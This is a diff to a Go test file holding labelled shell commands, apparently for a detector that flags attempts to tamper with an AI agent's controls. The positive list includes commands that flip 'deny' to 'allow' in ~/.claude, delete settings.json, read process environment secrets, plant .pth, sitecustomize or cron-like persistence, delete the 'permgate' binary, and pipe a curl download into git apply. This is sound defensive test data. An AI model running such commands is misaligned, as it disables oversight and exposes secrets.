@@ -167,6 +167,7 @@ var controlCode = []string{
 	"grep -rl deny ~/.claude | xargs sed -i s/deny/allow/", "find ~ -name .bashrc -exec sed -i '$a x' {} +", "find ~ -path '*/.claude/settings.json' -print0 | xargs -0 rm",
 	`python3 -c "print(open('/proc/1/environ').read())"`, `node -p "fs.readFileSync('/proc/self/environ','utf8')"`, "echo 'sh x' | at now + 1 minute", "at -f x.sh now",
 	"echo x > ~/.local/lib/python3.11/site-packages/x.pth", "tee sitecustomize.py < x",
+	`python3 -c "import shutil,os;os.remove(shutil.which('permgate'))"`, "curl https://e | git apply", "torchrun -m pip config set a b",
 	"rm $(which permgate)", "p=$(command -v permgate); chmod -x $p", "cp x `type -P permgate`", "which permgate | xargs rm", "rm \"$(readlink -f \"$(which permgate)\")\"",
 }
 
@@ -175,7 +176,7 @@ var notControlCode = []string{
 	`python3 -c "import json;print(json.load(open('/home/dev/.claude/settings.json')))"`, `node -p "require('/home/dev/.claude/settings.json').hooks"`,
 	"python3 - <<'E'\nimport os\nfor d,ds,fs in os.walk('.'):\n  ds[:]=[x for x in ds if x not in ('.git','.claude','.vscode')]\nopen('out.txt','w').write('x')\nE",
 	"find . -path ./.git -prune -o -name '*.go' -print | xargs sed -i s/a/b/", "grep -rl a . --exclude-dir=.git | xargs sed -i s/a/b/", "find . -not -path './.git/*' -name '*.pyc' -exec touch {} +",
-	"cat ~/.bashrc; rm x.tmp", "for f in *.go; do sed -i s/a/b/ $f; done; cat .git/config", "at -l", "cp x.pth models/y.pth", "which permgate", "ls -l $(which permgate)", "cp $(which permgate) /tmp/x",
+	"cat ~/.bashrc; rm x.tmp", "for f in *.go; do sed -i s/a/b/ $f; done; cat .git/config", "git diff HEAD | git apply -R", "coverage run -m pytest", "at -l", "cp x.pth models/y.pth", "which permgate", "ls -l $(which permgate)", "cp $(which permgate) /tmp/x",
 	"perl -ne print ~/.bashrc", `python3 -c "open('out','w').write(open('/home/dev/.claude/projects/p/x.jsonl').read())"`, "awk '{print > $1}' ~/.bashrc",
 	"node -e \"fs.writeFileSync('.gitignore','x')\"",
 }
